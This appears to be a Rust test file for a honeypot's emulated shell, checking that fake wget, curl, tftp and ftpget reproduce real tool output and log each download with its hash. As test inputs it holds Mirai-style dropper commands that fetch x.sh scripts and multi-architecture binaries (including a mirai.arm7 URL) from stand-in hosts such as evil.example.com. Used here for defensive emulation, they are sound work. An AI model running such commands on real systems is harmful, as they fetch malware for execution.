//! Downloader tests. Expected texts were taken from GNU Wget 1.21.3, curl 7.88 and BusyBox
//! 1.35 run against a local HTTP server (same layout as Ubuntu 22.04's wget 1.21.2 and curl
//! 7.81); only the made-up parts (sizes, rates, dates) are filled in from ours.

use proptest::prelude::*;

use super::{Url, bar, body, dot_rows, human};

use crate::events::EventKind;
use crate::shell::commands::testing::{run_as, run_status};

#[test]
fn wget_creates_the_file_and_records_it() {
    let outcome = run_as(
        "root",
        "cd /root; wget http://203.0.113.5/x.sh; ls -l x.sh | cut -d' ' -f1,5",
    );
    let out = String::from_utf8_lossy(&outcome.output).into_owned();
    let bytes = body("http://203.0.113.5/x.sh", "x.sh");
    let size = bytes.len();
    let shasum = hex::encode(super::digest(&bytes));
    let head = format!(
        "--2024-02-21 10:03:01--  http://203.0.113.5/x.sh\n\
         Connecting to 203.0.113.5:80... connected.\n\
         HTTP request sent, awaiting response... 200 OK\n\
         Length: {size} ({}) [application/octet-stream]\n\
         Saving to: \u{2018}x.sh\u{2019}\n\n     0K ",
        human(size as u64)
    );
    assert!(out.starts_with(&head), "{out}");
    assert!(
        out.contains(&format!(
            "\n\n2024-02-21 10:03:01 ({}) - \u{2018}x.sh\u{2019} saved [{size}/{size}]\n\n",
            super::rate("http://203.0.113.5/x.sh").0
        )),
        "{out}"
    );
    assert!(out.ends_with(&format!("-rw-r--r-- {size}\n")), "{out}");
    assert_eq!(
        outcome.events,
        [EventKind::FileDownload {
            url: "http://203.0.113.5/x.sh".into(),
            outfile: "/root/x.sh".into(),
            shasum,
        }]
    );
}

#[test]
fn wget_errors_like_gnu_wget() {
    let usage = "Usage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n";
    assert_eq!(
        run_status("wget"),
        (format!("wget: missing URL\n{usage}"), 1)
    );
    assert_eq!(
        run_status("wget -zz"),
        (
            format!("wget: invalid option -- 'z'\nwget: invalid option -- 'z'\n{usage}"),
            2
        )
    );
    let (out, status) = run_status("wget http://nohost/x");
    assert_eq!(status, 4);
    assert!(out.ends_with(
        "  http://nohost/x\nResolving nohost (nohost)... failed: Name or service not known.\n\
         wget: unable to resolve host address \u{2018}nohost\u{2019}\n"
    ));
    assert_eq!(run_status("wget -q http://nohost/x"), (String::new(), 4));
}

#[test]
fn wget_names_resolve_and_options_place_the_file() {
    let (out, status) = run_status("cd /tmp; wget -q -O a.bin http://evil.example.com:8080/b; ls");
    assert_eq!(status, 0);
    assert!(out.contains("a.bin"), "{out}");
    let (out, _) = run_status("wget http://evil.example.com/bins/x86 -P /tmp/d; ls /tmp/d");
    assert!(
        out.contains("Resolving evil.example.com (evil.example.com)... "),
        "{out}"
    );
    assert!(
        out.contains("Connecting to evil.example.com (evil.example.com)|"),
        "{out}"
    );
    assert!(
        out.contains("Saving to: \u{2018}/tmp/d/x86\u{2019}"),
        "{out}"
    );
    assert!(out.ends_with("\nx86\n"), "{out}");
    let (out, _) = run_status("cd /tmp; wget -q http://1.2.3.4/a; wget -q http://1.2.3.4/a; ls a*");
    assert_eq!(out, "a\na.1\n");
    let (out, _) = run_status("wget -qO- http://1.2.3.4/x.sh | head -c 10");
    assert_eq!(out, "#!/bin/sh\n");
}

#[test]
fn wget_dot_and_bar_progress_like_wget() {
    // wget 1.21.3, 123456 bytes, output to a pipe (rates replaced by one figure).
    assert_eq!(
        dot_rows(123_456, "172M"),
        "     0K .......... .......... .......... .......... .......... 41%  172M 0s\n\
         \x20   50K .......... .......... .......... .......... .......... 82%  172M 0s\n\
         \x20  100K .......... ..........                                 100%  172M=0s\n"
    );
    assert_eq!(
        dot_rows(1234, "37.8M"),
        "     0K .                                                     100% 37.8M=0s\n"
    );
    // The same download on an 80-column terminal.
    assert_eq!(
        bar("x.sh", 1234, 80),
        "\rx.sh                  0%[                    ]       0  --.-KB/s               \
         \rx.sh                100%[===================>]   1.21K  --.-KB/s    in 0s      \n"
    );
    assert!(bar("big.bin", 123_456, 80).contains("100%[===================>] 120.56K  --.-KB/s"));
    assert_eq!(human(1234), "1.2K");
    assert_eq!(human(123_456), "121K");
}

#[test]
fn curl_like_curl() {
    let try_help = "curl: try 'curl --help' or 'curl --manual' for more information\n";
    assert_eq!(run_status("curl"), (try_help.to_owned(), 2));
    assert_eq!(run_status("curl -s http://nohost/x"), (String::new(), 6));
    let (out, status) = run_status("curl http://nohost/x");
    assert_eq!(status, 6);
    assert!(out.ends_with("--:--:--     0curl: (6) Could not resolve host: nohost\n"));
    assert_eq!(run_status("curl -sO http://1.2.3.4/"), (String::new(), 23));
    assert_eq!(
        run_status("curl -O http://1.2.3.4/"),
        (
            format!("curl: Remote file name has no length!\n{try_help}"),
            23
        )
    );
    let (out, status) = run_status("curl -s http://1.2.3.4/i.sh | head -c 10");
    assert_eq!((out.as_str(), status), ("#!/bin/sh\n", 0));
    let outcome = run_as("root", "cd /tmp; curl -o y http://1.2.3.4/x.sh; wc -c < y");
    let out = String::from_utf8_lossy(&outcome.output).into_owned();
    let size = body("http://1.2.3.4/x.sh", "x.sh").len();
    assert!(out.starts_with(
        "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n\
         \x20                                Dload  Upload   Total   Spent    Left  Speed\n\
         \r  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0\r100 "
    ));
    assert!(
        out.contains(&format!("100 {size:>5}  100 {size:>5}    0     0 ")),
        "{out}"
    );
    assert!(out.ends_with(&format!("\n{size}\n")), "{out}");
    assert_eq!(outcome.events.len(), 1);
}

#[test]
fn tftp_and_ftpget_save_the_file() {
    let outcome = run_as(
        "root",
        "cd /tmp; tftp -g -r mips 203.0.113.9; tftp 203.0.113.9 -c get arm7; ftpget 203.0.113.9 x86 bins/x86; ls",
    );
    let out = String::from_utf8_lossy(&outcome.output).into_owned();
    assert!(
        out.contains("arm7\n") && out.contains("mips\n") && out.contains("x86\n"),
        "{out}"
    );
    let urls: Vec<String> = outcome
        .events
        .iter()
        .filter_map(|e| match e {
            EventKind::FileDownload { url, .. } => Some(url.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(
        urls,
        [
            "tftp://203.0.113.9/mips",
            "tftp://203.0.113.9/arm7",
            "ftp://203.0.113.9/bins/x86"
        ]
    );
    let (out, status) = run_status("tftp");
    assert_eq!(status, 1);
    assert_eq!(
        out,
        "BusyBox v1.30.1 (Ubuntu 1:1.30.1-7ubuntu3) multi-call binary.\n\n\
         Usage: tftp [OPTIONS] HOST [PORT]\n\nTransfer a file from/to tftp server\n\n\
         \t-l FILE\tLocal FILE\n\t-r FILE\tRemote FILE\n\t-g\tGet file\n\t-p\tPut file\n\
         \t-b SIZE\tTransfer blocks in bytes\n"
    );
}

#[test]
fn urls_parse() {
    let u = Url::parse("HTTP://Evil.com:81/a/b.sh?x=1").unwrap();
    assert_eq!(
        (u.host.as_str(), u.port, u.path.as_str()),
        ("evil.com", 81, "/a/b.sh?x=1")
    );
    assert_eq!(u.file_name(), "b.sh");
    assert_eq!(Url::parse("1.2.3.4").unwrap().full(), "http://1.2.3.4/");
    assert!(Url::parse("gopher://x").is_none());
    assert!(Url::parse("http://:80/").is_none());
}

#[test]
fn a_url_s_made_up_body_is_made_once_and_its_shasum_is_the_bytes_digest() {
    let url = "http://198.51.100.23/bins/mirai.arm7";
    let first = body(url, "mirai.arm7");
    let again = body(url, "mirai.arm7");
    assert!(std::sync::Arc::ptr_eq(&first, &again), "shared, not remade");
    let shasum = super::shasum_of(url, &first);
    assert_eq!(shasum, hex::encode(super::digest(&first)));
    // Saved as a script the same URL is text, with its own digest.
    let script = body(url, "x.sh");
    assert!(script.starts_with(b"#!/bin/sh\n"));
    assert_ne!(super::shasum_of(url, &script), shasum);
    // Bytes that are not a made-up body are hashed as they are.
    let other = std::sync::Arc::new(b"hello".to_vec());
    assert_eq!(
        super::shasum_of(url, &other),
        hex::encode(super::digest(b"hello"))
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn downloaders_never_panic(args in proptest::collection::vec("[-a-zA-Z0-9:/.\\[\\]@?=]{0,12}", 0..5)) {
        for cmd in [
            "wget", "curl", "tftp", "ftpget", "busybox", "passwd", "chpasswd", "crontab",
            "sleep", "base64", "md5sum", "sha256sum", "clear", "nohup", "sudo", "python3",
            "perl", "awk", "apt-get", "apt", "killall", "pkill", "sed", "strings", "su", "busybox nohup sudo",
        ] {
            let line = format!("{cmd} {}", args.iter().map(|a| format!("'{a}'")).collect::<Vec<_>>().join(" "));
            let _ = run_as("root", &line);
            let _ = run_as("deploy", &format!("echo x | {line}"));
        }
    }
}
